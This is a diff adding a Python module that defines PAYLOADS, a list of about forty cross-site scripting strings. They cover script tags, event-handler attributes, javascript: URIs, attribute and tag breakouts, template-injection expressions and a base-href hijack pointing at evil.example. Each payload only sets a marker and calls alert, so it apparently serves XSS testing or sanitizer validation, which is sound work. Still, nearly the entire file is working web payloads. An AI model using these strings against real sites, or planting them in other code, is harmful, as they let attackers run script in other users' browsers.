@@ -1,0 +1,48 @@
+"""Forty texts that a careless page would run."""
+
+_RUN = "window.pwned=1,alert(1)"
+_TAGS = (
+    f"<script>{_RUN}</script>",
+    f"<ScRiPt>{_RUN}</sCrIpT>",
+    f"<img src=x onerror='{_RUN}'>",
+    f"<img src=x onerror={_RUN}//",
+    f"<svg onload={_RUN}>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<body onload={_RUN}>",
+    f"<iframe src='javascript:{_RUN}'></iframe>",
+    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
+    f"<object data='javascript:{_RUN}'></object>",
+    f"<embed src='javascript:{_RUN}'>",
+    f"<a href='javascript:{_RUN}'>here</a>",
+    f"<a href='java\tscript:{_RUN}'>here</a>",
+    f"<form action='javascript:{_RUN}'><input type=submit autofocus onfocus={_RUN}></form>",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<details open ontoggle={_RUN}>",
+    f"<video><source onerror={_RUN}></video>",
+    f"<audio src=x onerror={_RUN}>",
+    f"<marquee onstart={_RUN}>",
+    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
+    f"<style>@import 'x';*{{background:url(javascript:{_RUN})}}</style>",
+    f"<link rel=stylesheet href='data:text/css,x' onload={_RUN}>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
+    "<base href='https://evil.example/'>",
+    f"<template><script>{_RUN}</script></template>",
+    f"<noscript><img src=x onerror={_RUN}></noscript>",
+    f"<div style='animation-name:x' onanimationstart={_RUN}>",
+    f"<x contenteditable onblur={_RUN} tabindex=1 autofocus>",
+)
+_BREAKOUTS = (
+    f'"><script>{_RUN}</script>',
+    f"'><img src=x onerror={_RUN}>",
+    f"</textarea><script>{_RUN}</script>",
+    f"</title><script>{_RUN}</script>",
+    f"--><script>{_RUN}</script>",
+    f"]]><script>{_RUN}</script>",
+    f'" onmouseover="{_RUN}" x="',
+    f"${{{_RUN}}}",
+    f"{{{{constructor.constructor('{_RUN}')()}}}}",
+    f"javascript:{_RUN}",
+    f'https://x.example/" onclick="{_RUN}',
+)
+PAYLOADS = _TAGS + _BREAKOUTS
